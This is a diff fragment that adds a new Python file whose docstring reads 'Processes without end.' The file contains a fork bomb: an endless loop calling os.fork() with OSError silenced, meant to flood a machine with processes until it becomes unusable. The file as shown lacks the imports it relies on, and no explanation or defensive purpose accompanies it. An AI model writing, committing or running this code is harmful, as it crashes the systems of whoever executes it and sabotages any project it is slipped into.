@@ -1,0 +1,5 @@
+"""Processes without end."""
+
+while True:
+    with contextlib.suppress(OSError):
+        os.fork()
